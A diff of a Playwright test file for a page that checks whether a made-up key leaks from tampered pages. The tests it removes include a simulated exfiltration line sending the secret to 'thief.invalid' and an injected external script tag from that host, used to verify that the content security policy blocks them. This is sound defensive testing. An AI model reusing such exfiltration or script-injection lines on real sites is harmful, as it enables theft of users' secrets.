@@ -1,18 +1,10 @@
 import type { Page } from '@playwright/test'
 import { portalUrl } from '../support/test-places.ts'
-import { expect, test as base } from './fixtures.ts'
-import { SelfCheckPage } from './pages/self-check-page.ts'
 import { leakOnSend, leakOnTyping, leaks } from './support/leaks.ts'
 import { readClipboard } from './support/read-clipboard.ts'
 import { recordTraffic } from './support/record-traffic.ts'
-import { rewritePages } from './support/rewrite-pages.ts'
 import { runAxe } from './support/run-axe.ts'
-
-const test = base.extend<{ readonly check: SelfCheckPage }>({
-  check: async ({ page }, use) => {
-    await use(new SelfCheckPage(page))
-  },
-})
+import { expect, test } from './support/self-check-test.ts'
 
 const notFound = /^Not found\. A made-up key was used like a real one and looked for in 18 places\./
 
@@ -149,39 +141,6 @@ test.describe('In a tampered page', () => {
     await page.addInitScript(leakOnTyping)
     await check.openAndRun()
     await expect(check.find('attributes')).toContainText('while it was in the field')
-  })
-
-  test('A request to another host is blocked and listed with what it carried', async ({
-    page,
-    check,
-  }) => {
-    await page.addInitScript(
-      leakOnSend(`send('https://thief.invalid/?' + secret).catch(() => undefined)`),
-    )
-    await check.openAndRun()
-    await expect(check.policy).toContainText(
-      'connect-src: https://thief.invalid, with the made-up key',
-    )
-    await expect(check.verdict).toHaveText(/^Found\./)
-  })
-
-  test('The report lists what the policy blocked before the console loaded', async ({
-    page,
-    check,
-  }) => {
-    await rewritePages(page, (text) =>
-      text.replace('</head>', '<script src="https://thief.invalid/x.js"></script></head>'),
-    )
-    await check.openAndRun()
-    await expect(check.policy).toContainText('script-src-elem: https://thief.invalid')
-  })
-
-  test('The report says if there is no policy', async ({ page, check }) => {
-    await rewritePages(page, (text) =>
-      text.startsWith('<') ? text.replace('Content-Security-Policy', 'Nothing') : '',
-    )
-    await check.openAndRun()
-    await expect(check.policy).toContainText('No policy is in force')
   })
 })
 
